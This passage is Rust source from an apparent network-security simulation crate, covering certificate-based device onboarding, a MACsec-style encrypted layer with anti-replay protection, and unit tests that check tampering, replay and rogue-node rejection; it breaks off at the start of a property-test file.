    /// # Errors
    ///
    /// Propagates CA exhaustion.
    pub fn enroll(
        &mut self,
        name: &str,
        class: DeviceClass,
        key_seed: &[u8],
    ) -> crate::Result<NodeIdentity> {
        let signer = MerkleSigner::from_seed(key_seed, 6);
        let cert = self.ca.issue(
            name,
            signer.public(),
            self.validity,
            vec![class.key_usage()],
        )?;
        self.ledger.issued += 1;
        let chain = vec![cert, self.ca.certificate().clone()];
        Ok(NodeIdentity {
            name: name.to_string(),
            class,
            chain,
            signer,
        })
    }

    /// Revokes a device's leaf certificate.
    pub fn revoke(&mut self, identity: &NodeIdentity) {
        let leaf = &identity.chain[0];
        self.crl.revoke(&leaf.tbs.issuer, leaf.tbs.serial);
        self.ledger.revocations += 1;
    }

    /// Renews a device certificate with a fresh validity window.
    ///
    /// # Errors
    ///
    /// Propagates CA exhaustion.
    pub fn renew(
        &mut self,
        identity: &mut NodeIdentity,
        new_validity: (u64, u64),
    ) -> crate::Result<()> {
        let cert = self.ca.issue(
            &identity.name,
            identity.signer.public(),
            new_validity,
            vec![identity.class.key_usage()],
        )?;
        identity.chain[0] = cert;
        self.ledger.renewals += 1;
        Ok(())
    }
}

/// Result of a completed onboarding: both ends' record keys plus the audit
/// trail of certificate operations it consumed.
#[derive(Debug)]
pub struct OnboardingResult {
    /// Keys derived on the joining device (client role).
    pub device_keys: SessionKeys,
    /// Keys derived on the admitting infrastructure (server role).
    pub infra_keys: SessionKeys,
    /// Chains validated during the ceremony.
    pub chains_validated: u64,
    /// Signatures produced during the ceremony.
    pub signatures: u64,
}

/// Runs the mutual-authentication onboarding ceremony between a joining
/// device and the admitting node, at simulation time `now`.
///
/// # Errors
///
/// Any handshake failure: invalid chains, revoked certificates, transcript
/// mismatches.
pub fn onboard(
    device: &mut NodeIdentity,
    infra: &mut NodeIdentity,
    trust_anchor: &MerklePublicKey,
    crl: &RevocationList,
    now: u64,
    seed: &[u8],
) -> crate::Result<OnboardingResult> {
    onboard_instrumented(device, infra, trust_anchor, crl, now, seed, &Telemetry::disabled())
}

/// [`onboard`] with per-phase handshake spans
/// (`netsec.handshake.client_hello` / `server_flight` / `client_finish` /
/// `server_finish`) and a `netsec.handshake.completed` counter.
///
/// # Errors
///
/// Same failure modes as [`onboard`].
#[allow(clippy::too_many_arguments)]
pub fn onboard_instrumented(
    device: &mut NodeIdentity,
    infra: &mut NodeIdentity,
    trust_anchor: &MerklePublicKey,
    crl: &RevocationList,
    now: u64,
    seed: &[u8],
    telemetry: &Telemetry,
) -> crate::Result<OnboardingResult> {
    let config = HandshakeConfig {
        require_client_auth: true,
        now,
    };
    let (hello, client) = {
        let _span = telemetry.span("netsec.handshake.client_hello");
        ClientSession::start(&config, seed)?
    };
    let (flight, server) = {
        let _span = telemetry.span("netsec.handshake.server_flight");
        ServerSession::respond(&config, &hello, infra, seed)?
    };
    let (client_flight, device_keys) = {
        let _span = telemetry.span("netsec.handshake.client_finish");
        client.finish(&config, &flight, Some(device), &[*trust_anchor], crl)?
    };
    let infra_keys = {
        let _span = telemetry.span("netsec.handshake.server_finish");
        server.finish(&config, &client_flight, &[*trust_anchor], crl)?
    };
    telemetry.counter("netsec.handshake.completed").incr(1);
    Ok(OnboardingResult {
        device_keys,
        infra_keys,
        // Server chain checked by client + client chain checked by server.
        chains_validated: 2,
        // CertificateVerify on each side.
        signatures: 2,
    })
}

/// Convenience: onboard and update the enrolment ledger.
///
/// # Errors
///
/// Propagates [`onboard`] failures.
pub fn onboard_with_ledger(
    enrollment: &mut Enrollment,
    device: &mut NodeIdentity,
    infra: &mut NodeIdentity,
    now: u64,
    seed: &[u8],
) -> crate::Result<OnboardingResult> {
    let anchor = enrollment.trust_anchor();
    let crl = enrollment.crl.clone();
    let result = onboard(device, infra, &anchor, &crl, now, seed)?;
    enrollment.ledger.chains_validated += result.chains_validated;
    enrollment.ledger.signatures += result.signatures;
    Ok(result)
}

/// Validates a device chain standalone (used by the PON admission hook).
///
/// # Errors
///
/// Propagates chain-validation failures.
pub fn validate_device_chain(
    chain: &[Certificate],
    trust_anchor: &MerklePublicKey,
    crl: &RevocationList,
    now: u64,
) -> crate::Result<()> {
    validate_chain(chain, &[*trust_anchor], crl, now)?;
    Ok(())
}

#[cfg(test)]
mod tests {
    use super::*;

    fn setup() -> (Enrollment, NodeIdentity, NodeIdentity) {
        let mut e = Enrollment::new(b"fleet-seed", (0, 100_000), 6).unwrap();
        let onu = e.enroll("onu-1", DeviceClass::Onu, b"onu-1-key").unwrap();
        let olt = e.enroll("olt-1", DeviceClass::Olt, b"olt-1-key").unwrap();
        (e, onu, olt)
    }

    #[test]
    fn enroll_produces_valid_chain() {
        let (e, onu, _) = setup();
        validate_device_chain(&onu.chain, &e.trust_anchor(), e.crl(), 50).unwrap();
    }

    #[test]
    fn onboarding_derives_matching_keys() {
        let (mut e, mut onu, mut olt) = setup();
        let r = onboard_with_ledger(&mut e, &mut onu, &mut olt, 50, b"session-1").unwrap();
        // Client-write key on device encrypts, same key on infra decrypts.
        let mut dev_c = r.device_keys;
        let mut inf_c = r.infra_keys;
        let rec = dev_c.seal_client(b"hello").unwrap();
        assert_eq!(inf_c.open_client(&rec).unwrap(), b"hello");
        let rec = inf_c.seal_server(b"welcome").unwrap();
        assert_eq!(dev_c.open_server(&rec).unwrap(), b"welcome");
    }

    #[test]
    fn revoked_device_cannot_onboard() {
        let (mut e, mut onu, mut olt) = setup();
        e.revoke(&onu);
        let anchor = e.trust_anchor();
        let crl = e.crl().clone();
        let err = onboard(&mut onu, &mut olt, &anchor, &crl, 50, b"s");
        assert!(err.is_err(), "revoked device must be rejected");
    }

    #[test]
    fn expired_certificate_blocks_onboarding_until_renewal() {
        let (mut e, mut onu, mut olt) = setup();
        let anchor = e.trust_anchor();
        let crl = e.crl().clone();
        // Past the validity window of the enrolment.
        assert!(onboard(&mut onu, &mut olt, &anchor, &crl, 200_000, b"s").is_err());
        // Infra cert must also be in-window, so renew both.
        e.renew(&mut onu, (0, 300_000)).unwrap();
        e.renew(&mut olt, (0, 300_000)).unwrap();
        assert!(onboard(&mut onu, &mut olt, &anchor, &crl, 200_000, b"s").is_ok());
        assert_eq!(e.ledger.renewals, 2);
    }

    #[test]
    fn ledger_counts_operations() {
        let (mut e, mut onu, mut olt) = setup();
        assert_eq!(e.ledger.issued, 2);
        onboard_with_ledger(&mut e, &mut onu, &mut olt, 10, b"s1").unwrap();
        onboard_with_ledger(&mut e, &mut onu, &mut olt, 20, b"s2").unwrap();
        assert_eq!(e.ledger.chains_validated, 4);
        assert_eq!(e.ledger.signatures, 4);
        assert!(e.ledger.total() >= 10);
    }

    #[test]
    fn foreign_root_rejected() {
        let (_e, mut onu, _) = setup();
        let mut foreign = Enrollment::new(b"other-fleet", (0, 100_000), 5).unwrap();
        let mut rogue_olt = foreign
            .enroll("rogue-olt", DeviceClass::Olt, b"rogue")
            .unwrap();
        // The device validates against its own fleet anchor; the rogue OLT's
        // chain terminates at a different root.
        let (e2, _, _) = setup();
        let anchor = e2.trust_anchor();
        let crl = RevocationList::new();
        assert!(onboard(&mut onu, &mut rogue_olt, &anchor, &crl, 50, b"s").is_err());
    }

    #[test]
    fn device_class_usage_mapping() {
        assert_eq!(DeviceClass::Onu.key_usage(), KeyUsage::ClientAuth);
        assert_eq!(DeviceClass::Olt.key_usage(), KeyUsage::ServerAuth);
        assert_eq!(DeviceClass::Cloud.key_usage(), KeyUsage::ServerAuth);
    }
}
