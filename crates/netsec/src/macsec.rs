//! MACsec-shaped layer-2 protection (IEEE 802.1AE).
//!
//! The paper's mitigation **M3** uses MACsec to encrypt raw Ethernet frames
//! between OLTs and upstream equipment with AES-GCM, providing
//! confidentiality, integrity and replay protection on each point-to-point
//! hop. This module reproduces the data-plane structure:
//!
//! * a **secure channel** (SC) per transmitting peer, identified by an SCI;
//! * up to four **secure associations** (SA) per channel, numbered by a
//!   2-bit association number (AN), each holding a Secure Association Key
//!   (SAK) — rotation installs the next AN;
//! * a **SecTAG** carrying SCI, AN and a monotonically increasing packet
//!   number (PN), authenticated as associated data;
//! * a sliding **anti-replay window** on receive.
//!
//! Key distribution (MKA in real deployments) is simulated by deriving SAKs
//! from a pre-shared Connectivity Association Key (CAK) with HKDF, the same
//! trust bootstrap 802.1X-2010 uses.

use std::collections::hash_map::Entry;
use std::collections::HashMap;

use genio_crypto::gcm::AesGcm;
use genio_crypto::hkdf;
use genio_telemetry::{Counter, Histogram, Telemetry};

use crate::NetsecError;

/// Association number: 2 bits, so four concurrent SAs per channel.
pub type An = u8;

/// Secure Channel Identifier (simplified to a u64 node id).
pub type Sci = u64;

/// A protected frame on the wire.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct MacsecFrame {
    /// SecTAG: transmitting channel.
    pub sci: Sci,
    /// SecTAG: association number that keyed this frame.
    pub an: An,
    /// SecTAG: packet number (replay handle and nonce basis).
    pub pn: u64,
    /// AES-GCM ciphertext plus tag.
    pub secure_data: Vec<u8>,
}

/// Tuning knobs for a MACsec peer.
#[derive(Debug, Clone, Copy)]
pub struct MacsecConfig {
    /// Anti-replay window size in packets. `0` enforces strict ordering.
    pub replay_window: u64,
    /// PN value at which the sender refuses to continue without rotation.
    pub pn_limit: u64,
}

impl Default for MacsecConfig {
    fn default() -> Self {
        MacsecConfig {
            replay_window: 64,
            pn_limit: u32::MAX as u64,
        }
    }
}

#[derive(Debug)]
struct TxState {
    an: An,
    next_pn: u64,
    aead: AesGcm,
}

#[derive(Debug)]
struct RxAssociation {
    aead: AesGcm,
    /// Highest PN validated so far.
    high: u64,
    /// Bitmap of the `replay_window` packets below `high`.
    window: u128,
    /// True once any frame has been accepted.
    seen_any: bool,
}

impl RxAssociation {
    fn check_and_mark(&mut self, pn: u64, window_size: u64) -> Result<(), NetsecError> {
        if !self.seen_any {
            return Ok(());
        }
        if pn > self.high {
            return Ok(());
        }
        let age = self.high - pn;
        if age >= window_size.min(127) || window_size == 0 {
            return Err(NetsecError::ReplayDetected { pn });
        }
        if (self.window >> age) & 1 == 1 {
            return Err(NetsecError::ReplayDetected { pn });
        }
        Ok(())
    }

    fn mark(&mut self, pn: u64) {
        if !self.seen_any {
            self.seen_any = true;
            self.high = pn;
            self.window = 1;
            return;
        }
        if pn > self.high {
            let shift = pn - self.high;
            self.window = if shift >= 128 {
                0
            } else {
                self.window << shift
            };
            self.window |= 1;
            self.high = pn;
        } else {
            let age = self.high - pn;
            if age < 128 {
                self.window |= 1 << age;
            }
        }
    }
}

/// One endpoint of a MACsec-protected link.
///
/// Each peer transmits on its own secure channel (keyed by its SCI) and
/// receives on the channels of every peer sharing the CAK.
#[derive(Debug)]
pub struct MacsecPeer {
    sci: Sci,
    config: MacsecConfig,
    cak: Vec<u8>,
    tx: TxState,
    rx: HashMap<(Sci, An), RxAssociation>,
    /// Count of frames rejected on receive, by cause, for the benchmarks.
    pub rejected_replay: u64,
    /// Count of integrity failures observed on receive.
    pub rejected_integrity: u64,
    protect_time: Histogram,
    validate_time: Histogram,
    protect_batch_time: Histogram,
    validate_batch_time: Histogram,
    tx_frames: Counter,
    rx_accepted: Counter,
    rx_replay: Counter,
    rx_integrity: Counter,
}

fn derive_sak(cak: &[u8], sci: Sci, an: An) -> Vec<u8> {
    let info = format!("macsec-sak sci={sci} an={an}");
    hkdf::derive(b"genio-mka", cak, info.as_bytes(), 16)
}

impl MacsecPeer {
    /// Creates a peer with channel id `sci`, deriving its first SAK (AN 0)
    /// from the shared `cak`.
    ///
    /// # Errors
    ///
    /// Propagates key-setup failures from the AEAD layer.
    pub fn new(sci: Sci, config: &MacsecConfig, cak: &[u8]) -> crate::Result<Self> {
        let sak = derive_sak(cak, sci, 0);
        let aead = AesGcm::new(&sak)?;
        Ok(MacsecPeer {
            sci,
            config: *config,
            cak: cak.to_vec(),
            tx: TxState {
                an: 0,
                next_pn: 1,
                aead,
            },
            rx: HashMap::new(),
            rejected_replay: 0,
            rejected_integrity: 0,
            protect_time: Histogram::disabled(),
            validate_time: Histogram::disabled(),
            protect_batch_time: Histogram::disabled(),
            validate_batch_time: Histogram::disabled(),
            tx_frames: Counter::disabled(),
            rx_accepted: Counter::disabled(),
            rx_replay: Counter::disabled(),
            rx_integrity: Counter::disabled(),
        })
    }

    /// Attaches telemetry: TX/RX latency histograms
    /// (`netsec.macsec.protect_ns` / `netsec.macsec.validate_ns`) and
    /// frame-outcome counters. Handles are resolved once, here.
    pub fn with_telemetry(mut self, telemetry: &Telemetry) -> Self {
        self.protect_time = telemetry.histogram("netsec.macsec.protect_ns");
        self.validate_time = telemetry.histogram("netsec.macsec.validate_ns");
        self.protect_batch_time = telemetry.histogram("netsec.macsec.protect_many_ns");
        self.validate_batch_time = telemetry.histogram("netsec.macsec.validate_many_ns");
        self.tx_frames = telemetry.counter("netsec.macsec.tx_frames");
        self.rx_accepted = telemetry.counter("netsec.macsec.rx_accepted");
        self.rx_replay = telemetry.counter("netsec.macsec.rx_replay");
        self.rx_integrity = telemetry.counter("netsec.macsec.rx_integrity");
        self
    }

    /// This peer's secure channel identifier.
    pub fn sci(&self) -> Sci {
        self.sci
    }

    /// Current transmit association number.
    pub fn current_an(&self) -> An {
        self.tx.an
    }

    /// Rotates the transmit SAK to the next association number, resetting
    /// the packet number. Receivers derive the same SAK lazily from the CAK.
    ///
    /// # Errors
    ///
    /// Propagates key-setup failures from the AEAD layer.
    pub fn rotate_sak(&mut self) -> crate::Result<()> {
        let next_an = (self.tx.an + 1) % 4;
        let sak = derive_sak(&self.cak, self.sci, next_an);
        self.tx = TxState {
            an: next_an,
            next_pn: 1,
            aead: AesGcm::new(&sak)?,
        };
        Ok(())
    }

    /// Protects an outgoing frame.
    ///
    /// # Errors
    ///
    /// Returns [`NetsecError::PnExhausted`] when the PN reaches the
    /// configured limit; callers must [`MacsecPeer::rotate_sak`].
    pub fn protect(&mut self, payload: &[u8]) -> crate::Result<MacsecFrame> {
        let _timer = self.protect_time.start();
        if self.tx.next_pn >= self.config.pn_limit {
            return Err(NetsecError::PnExhausted);
        }
        self.tx_frames.incr(1);
        let pn = self.tx.next_pn;
        self.tx.next_pn += 1;
        let nonce = nonce_for(self.sci, pn);
        let aad = aad_for(self.sci, self.tx.an, pn);
        let secure_data = self.tx.aead.seal(&nonce, payload, &aad);
        Ok(MacsecFrame {
            sci: self.sci,
            an: self.tx.an,
            pn,
            secure_data,
        })
    }

    /// Validates and decrypts an incoming frame.
    ///
    /// # Errors
    ///
    /// * [`NetsecError::ReplayDetected`] — PN repeated or older than the
    ///   window.
    /// * [`NetsecError::IntegrityFailure`] — tag mismatch.
    pub fn validate(&mut self, frame: &MacsecFrame) -> crate::Result<Vec<u8>> {
        let _timer = self.validate_time.start();
        let key = (frame.sci, frame.an);
        let window = self.config.replay_window;
        let assoc = match self.rx.entry(key) {
            Entry::Occupied(e) => e.into_mut(),
            Entry::Vacant(e) => {
                let sak = derive_sak(&self.cak, frame.sci, frame.an);
                let aead = AesGcm::new(&sak)?;
                e.insert(RxAssociation {
                    aead,
                    high: 0,
                    window: 0,
                    seen_any: false,
                })
            }
        };
        if let Err(e) = assoc.check_and_mark(frame.pn, window) {
            self.rejected_replay += 1;
            self.rx_replay.incr(1);
            return Err(e);
        }
        let nonce = nonce_for(frame.sci, frame.pn);
        let aad = aad_for(frame.sci, frame.an, frame.pn);
        match assoc.aead.open(&nonce, &frame.secure_data, &aad) {
            Ok(pt) => {
                assoc.mark(frame.pn);
                self.rx_accepted.incr(1);
                Ok(pt)
            }
            Err(_) => {
                self.rejected_integrity += 1;
                self.rx_integrity.incr(1);
                Err(NetsecError::IntegrityFailure)
            }
        }
    }

    /// Protects a whole TDMA burst in one call: frame `i` carries PN
    /// `next_pn + i` and is byte-identical to what the `i`-th sequential
    /// [`MacsecPeer::protect`] call would have produced. The burst shares
    /// one batched AEAD call ([`AesGcm::seal_many`]), paying telemetry and
    /// dispatch once per burst instead of once per frame.
    ///
    /// # Errors
    ///
    /// Returns [`NetsecError::PnExhausted`] if *any* frame of the burst
    /// would reach the configured PN limit; the batch is all-or-nothing, so
    /// nothing is sealed and the PN does not advance in that case.
    pub fn protect_many(&mut self, payloads: &[&[u8]]) -> crate::Result<Vec<MacsecFrame>> {
        let _timer = self.protect_batch_time.start();
        let n = payloads.len() as u64;
        if n == 0 {
            return Ok(Vec::new());
        }
        if self.tx.next_pn.saturating_add(n - 1) >= self.config.pn_limit {
            return Err(NetsecError::PnExhausted);
        }
        let pn0 = self.tx.next_pn;
        self.tx.next_pn += n;
        self.tx_frames.incr(n);
        let nonces: Vec<[u8; 12]> = (0..n).map(|i| nonce_for(self.sci, pn0 + i)).collect();
        let aads: Vec<[u8; 17]> = (0..n)
            .map(|i| aad_for(self.sci, self.tx.an, pn0 + i))
            .collect();
        let aad_refs: Vec<&[u8]> = aads.iter().map(|a| a.as_slice()).collect();
        let sealed = self.tx.aead.seal_many(&nonces, payloads, &aad_refs)?;
        Ok(sealed
            .into_iter()
            .enumerate()
            .map(|(i, secure_data)| MacsecFrame {
                sci: self.sci,
                an: self.tx.an,
                pn: pn0 + i as u64,
                secure_data,
            })
            .collect())
    }

    /// Validates a burst of frames in one call, returning one result per
    /// frame in input order. Outcomes are identical to looping
    /// [`MacsecPeer::validate`]: replay state advances frame by frame, so an
    /// in-burst duplicate is rejected exactly as it would be sequentially,
    /// and error precedence (replay before integrity) is preserved.
    ///
    /// Internally, consecutive frames from the same (SCI, AN) are opened
    /// with one batched [`AesGcm::open_many`] call — safe because `open`
    /// mutates nothing; only the replay bookkeeping is order-dependent and
    /// that still runs strictly sequentially.
    pub fn validate_many(&mut self, frames: &[MacsecFrame]) -> Vec<crate::Result<Vec<u8>>> {
        let _timer = self.validate_batch_time.start();
        let mut results = Vec::with_capacity(frames.len());
        let mut start = 0usize;
        while start < frames.len() {
            // (SCI, AN) is a public association identifier, not secret
            // material; grouping on it leaks nothing.
            let assoc_id = (frames[start].sci, frames[start].an);
            let mut end = start + 1;
            while end < frames.len() && (frames[end].sci, frames[end].an) == assoc_id {
                end += 1;
            }
            self.validate_run(&frames[start..end], &mut results);
            start = end;
        }
        results
    }

    /// One same-(SCI, AN) run of [`MacsecPeer::validate_many`].
    fn validate_run(&mut self, run: &[MacsecFrame], results: &mut Vec<crate::Result<Vec<u8>>>) {
        let Some(first) = run.first() else { return };
        let window = self.config.replay_window;
        let assoc = match self.rx.entry((first.sci, first.an)) {
            Entry::Occupied(e) => e.into_mut(),
            Entry::Vacant(e) => {
                let sak = derive_sak(&self.cak, first.sci, first.an);
                match AesGcm::new(&sak) {
                    Ok(aead) => e.insert(RxAssociation {
                        aead,
                        high: 0,
                        window: 0,
                        seen_any: false,
                    }),
                    Err(err) => {
                        // Sequential validation would fail key setup for
                        // every frame of the run the same way.
                        for _ in run {
                            results.push(Err(NetsecError::Crypto(err.clone())));
                        }
                        return;
                    }
                }
            }
        };
        let nonces: Vec<[u8; 12]> = run.iter().map(|f| nonce_for(f.sci, f.pn)).collect();
        let aads: Vec<[u8; 17]> = run.iter().map(|f| aad_for(f.sci, f.an, f.pn)).collect();
        let aad_refs: Vec<&[u8]> = aads.iter().map(|a| a.as_slice()).collect();
        let ct_refs: Vec<&[u8]> = run.iter().map(|f| f.secure_data.as_slice()).collect();
        let opened = match assoc.aead.open_many(&nonces, &ct_refs, &aad_refs) {
            Ok(o) => o,
            // Unreachable (the slices are built with equal lengths), but
            // fall back to per-frame opens rather than assume.
            Err(_) => run
                .iter()
                .map(|f| {
                    assoc.aead.open(
                        &nonce_for(f.sci, f.pn),
                        &f.secure_data,
                        &aad_for(f.sci, f.an, f.pn),
                    )
                })
                .collect(),
        };
        for (frame, open_result) in run.iter().zip(opened) {
            if let Err(e) = assoc.check_and_mark(frame.pn, window) {
                self.rejected_replay += 1;
                self.rx_replay.incr(1);
                results.push(Err(e));
                continue;
            }
            match open_result {
                Ok(pt) => {
                    assoc.mark(frame.pn);
                    self.rx_accepted.incr(1);
                    results.push(Ok(pt));
                }
                Err(_) => {
                    self.rejected_integrity += 1;
                    self.rx_integrity.incr(1);
                    results.push(Err(NetsecError::IntegrityFailure));
                }
            }
        }
    }
}

fn nonce_for(sci: Sci, pn: u64) -> [u8; 12] {
    let mut nonce = [0u8; 12];
    // Low 32 bits of the SCI, taken byte-wise to avoid a lossy cast.
    let sci_be = sci.to_be_bytes();
    nonce[0..4].copy_from_slice(&sci_be[4..8]);
    nonce[4..12].copy_from_slice(&pn.to_be_bytes());
    nonce
}

fn aad_for(sci: Sci, an: An, pn: u64) -> [u8; 17] {
    let mut aad = [0u8; 17];
    aad[0..8].copy_from_slice(&sci.to_be_bytes());
    aad[8] = an;
    aad[9..17].copy_from_slice(&pn.to_be_bytes());
    aad
}

#[cfg(test)]
mod tests {
    use super::*;

    fn pair() -> (MacsecPeer, MacsecPeer) {
        let cfg = MacsecConfig::default();
        (
            MacsecPeer::new(0xA, &cfg, b"cak").unwrap(),
            MacsecPeer::new(0xB, &cfg, b"cak").unwrap(),
        )
    }

    #[test]
    fn protect_validate_roundtrip() {
        let (mut a, mut b) = pair();
        let f = a.protect(b"hello olt").unwrap();
        assert_eq!(b.validate(&f).unwrap(), b"hello olt");
    }

    #[test]
    fn pn_increases_per_frame() {
        let (mut a, _) = pair();
        assert_eq!(a.protect(b"1").unwrap().pn, 1);
        assert_eq!(a.protect(b"2").unwrap().pn, 2);
    }

    #[test]
    fn bidirectional_channels_are_independent() {
        let (mut a, mut b) = pair();
        let fa = a.protect(b"from a").unwrap();
        let fb = b.protect(b"from b").unwrap();
        assert_eq!(b.validate(&fa).unwrap(), b"from a");
        assert_eq!(a.validate(&fb).unwrap(), b"from b");
    }

    #[test]
    fn exact_replay_rejected() {
        let (mut a, mut b) = pair();
        let f = a.protect(b"once").unwrap();
        b.validate(&f).unwrap();
        assert_eq!(
            b.validate(&f),
            Err(NetsecError::ReplayDetected { pn: f.pn })
        );
        assert_eq!(b.rejected_replay, 1);
    }

    #[test]
    fn out_of_order_within_window_accepted() {
        let (mut a, mut b) = pair();
        let f1 = a.protect(b"1").unwrap();
        let f2 = a.protect(b"2").unwrap();
        let f3 = a.protect(b"3").unwrap();
        b.validate(&f1).unwrap();
        b.validate(&f3).unwrap();
        // f2 is older than high but inside the window and unseen: accept.
        assert_eq!(b.validate(&f2).unwrap(), b"2");
        // But a second delivery of f2 is replay.
        assert!(b.validate(&f2).is_err());
    }

    #[test]
    fn outside_window_rejected() {
        let cfg = MacsecConfig {
            replay_window: 4,
            pn_limit: u32::MAX as u64,
        };
        let mut a = MacsecPeer::new(1, &cfg, b"cak").unwrap();
        let mut b = MacsecPeer::new(2, &cfg, b"cak").unwrap();
        let old = a.protect(b"old").unwrap();
        for i in 0..10 {
            let f = a.protect(format!("{i}").as_bytes()).unwrap();
            b.validate(&f).unwrap();
        }
        assert!(matches!(
            b.validate(&old),
            Err(NetsecError::ReplayDetected { .. })
        ));
    }

    #[test]
    fn strict_ordering_with_zero_window() {
        let cfg = MacsecConfig {
            replay_window: 0,
            pn_limit: u32::MAX as u64,
        };
        let mut a = MacsecPeer::new(1, &cfg, b"cak").unwrap();
        let mut b = MacsecPeer::new(2, &cfg, b"cak").unwrap();
        let f1 = a.protect(b"1").unwrap();
        let f2 = a.protect(b"2").unwrap();
        b.validate(&f2).unwrap();
        assert!(
            b.validate(&f1).is_err(),
            "older frame rejected under strict ordering"
        );
    }

    #[test]
    fn tampering_detected() {
        let (mut a, mut b) = pair();
        let mut f = a.protect(b"config").unwrap();
        f.secure_data[0] ^= 1;
        assert_eq!(b.validate(&f), Err(NetsecError::IntegrityFailure));
        assert_eq!(b.rejected_integrity, 1);
    }

    #[test]
    fn sectag_tampering_detected() {
        let (mut a, mut b) = pair();
        let mut f = a.protect(b"config").unwrap();
        f.pn += 10; // forge a newer PN to slip past the replay check
        assert_eq!(b.validate(&f), Err(NetsecError::IntegrityFailure));
    }

    #[test]
    fn rotation_changes_an_and_still_validates() {
        let (mut a, mut b) = pair();
        let f0 = a.protect(b"pre").unwrap();
        b.validate(&f0).unwrap();
        a.rotate_sak().unwrap();
        assert_eq!(a.current_an(), 1);
        let f1 = a.protect(b"post").unwrap();
        assert_eq!(f1.an, 1);
        assert_eq!(f1.pn, 1, "pn resets on rotation");
        assert_eq!(b.validate(&f1).unwrap(), b"post");
    }

    #[test]
    fn pn_exhaustion_forces_rotation() {
        let cfg = MacsecConfig {
            replay_window: 64,
            pn_limit: 3,
        };
        let mut a = MacsecPeer::new(1, &cfg, b"cak").unwrap();
        a.protect(b"1").unwrap();
        a.protect(b"2").unwrap();
        assert_eq!(a.protect(b"3").unwrap_err(), NetsecError::PnExhausted);
        a.rotate_sak().unwrap();
        assert!(a.protect(b"3").is_ok());
    }

    #[test]
    fn protect_many_matches_looped_protect() {
        let cfg = MacsecConfig::default();
        let mut batch = MacsecPeer::new(0xA, &cfg, b"cak").unwrap();
        let mut looped = MacsecPeer::new(0xA, &cfg, b"cak").unwrap();
        let payloads: Vec<Vec<u8>> = (0..9u8).map(|i| vec![i; 20 + i as usize * 13]).collect();
        let refs: Vec<&[u8]> = payloads.iter().map(Vec::as_slice).collect();
        let frames = batch.protect_many(&refs).unwrap();
        assert_eq!(frames.len(), payloads.len());
        for (i, payload) in payloads.iter().enumerate() {
            assert_eq!(frames[i], looped.protect(payload).unwrap(), "frame {i}");
        }
    }

    #[test]
    fn validate_many_matches_sequential_semantics() {
        let cfg = MacsecConfig::default();
        let mut a = MacsecPeer::new(0xA, &cfg, b"cak").unwrap();
        let mut c = MacsecPeer::new(0xC, &cfg, b"cak").unwrap();
        let mut rx_batch = MacsecPeer::new(0xB, &cfg, b"cak").unwrap();
        let mut rx_seq = MacsecPeer::new(0xB, &cfg, b"cak").unwrap();
        let payloads: Vec<Vec<u8>> = (0..6u8).map(|i| vec![i; 32]).collect();
        let refs: Vec<&[u8]> = payloads.iter().map(Vec::as_slice).collect();
        let mut frames = a.protect_many(&refs).unwrap();
        frames[3].secure_data[0] ^= 1; // tamper one frame mid-burst
        frames.push(frames[1].clone()); // in-burst replay
        // Interleave a second channel so run-splitting is exercised.
        let from_c = c.protect_many(&refs[..2]).unwrap();
        frames.insert(2, from_c[0].clone());
        frames.push(from_c[1].clone());
        let batch_results = rx_batch.validate_many(&frames);
        let seq_results: Vec<_> = frames.iter().map(|f| rx_seq.validate(f)).collect();
        assert_eq!(batch_results, seq_results);
        assert_eq!(rx_batch.rejected_replay, rx_seq.rejected_replay);
        assert_eq!(rx_batch.rejected_integrity, rx_seq.rejected_integrity);
    }

    #[test]
    fn protect_many_is_all_or_nothing_on_pn_exhaustion() {
        let cfg = MacsecConfig {
            replay_window: 64,
            pn_limit: 4,
        };
        let mut a = MacsecPeer::new(1, &cfg, b"cak").unwrap();
        let refs: Vec<&[u8]> = (0..5).map(|_| b"x" as &[u8]).collect();
        assert_eq!(a.protect_many(&refs).unwrap_err(), NetsecError::PnExhausted);
        // The PN did not advance: a 3-frame burst (PNs 1..=3) still fits.
        assert_eq!(a.protect_many(&refs[..3]).unwrap().len(), 3);
        assert_eq!(a.protect_many(&refs[..1]).unwrap_err(), NetsecError::PnExhausted);
    }

    #[test]
    fn wrong_cak_fails_integrity() {
        let cfg = MacsecConfig::default();
        let mut a = MacsecPeer::new(1, &cfg, b"cak-a").unwrap();
        let mut b = MacsecPeer::new(2, &cfg, b"cak-b").unwrap();
        let f = a.protect(b"secret").unwrap();
        assert_eq!(b.validate(&f), Err(NetsecError::IntegrityFailure));
    }
}
