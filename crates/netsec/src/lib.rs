//! # genio-netsec
//!
//! Network-security substrate for the GENIO platform: the protocols behind
//! mitigations **M3** (end-to-end encryption) and **M4** (authentication of
//! nodes) in the paper.
//!
//! * [`macsec`] — IEEE 802.1AE-shaped layer-2 protection: secure channels
//!   and associations, SecTAG framing, AES-GCM protection, anti-replay
//!   windows and SAK rotation. This is the Ethernet-segment half of M3
//!   (the optical half lives in `genio-pon::security`).
//! * [`handshake`] — a TLS-1.3-shaped authenticated key exchange:
//!   ephemeral Diffie–Hellman, HKDF key schedule over a transcript hash,
//!   certificate-based server (and optionally mutual) authentication, and
//!   AEAD-protected application records. Used for ONU/OLT onboarding and
//!   cloud control-plane sessions (M4).
//! * [`onboarding`] — the node-admission workflow: device identities with
//!   certificate chains, the mutual-authentication ceremony, and the
//!   certificate-management bookkeeping that Lesson 2 calls out as the real
//!   operational cost across a heterogeneous fleet.
//! * [`dnssec`] — a DNSSEC-lite resolver: signed zones, delegation via DS
//!   records, and validation against a trust anchor (the paper cites RFC
//!   4033 secure DNS as part of M4).
//!
//! # Example
//!
//! ```
//! use genio_netsec::macsec::{MacsecConfig, MacsecPeer};
//!
//! # fn main() -> Result<(), genio_netsec::NetsecError> {
//! let cfg = MacsecConfig::default();
//! let mut olt = MacsecPeer::new(1, &cfg, b"connectivity association key")?;
//! let mut onu = MacsecPeer::new(2, &cfg, b"connectivity association key")?;
//! let frame = olt.protect(b"VOLTHA flow rule")?;
//! assert_eq!(onu.validate(&frame)?, b"VOLTHA flow rule");
//! # Ok(())
//! # }
//! ```

#![forbid(unsafe_code)]
#![warn(missing_docs)]

pub mod dnssec;
pub mod handshake;
pub mod macsec;
pub mod onboarding;

mod error;

pub use error::NetsecError;

/// Convenience alias for fallible network-security operations.
pub type Result<T> = std::result::Result<T, NetsecError>;
