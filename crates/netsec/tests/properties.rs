//! Property-based tests for the MACsec anti-replay window and record
//! protection.

use genio_testkit::prelude::*;

use genio_netsec::macsec::{MacsecConfig, MacsecFrame, MacsecPeer};

property! {
    /// In-order delivery of any number of frames is always accepted, and a
    /// second delivery of any one of them is always rejected.
    fn macsec_in_order_then_replay(count in 1usize..64, replay_at in index()) {
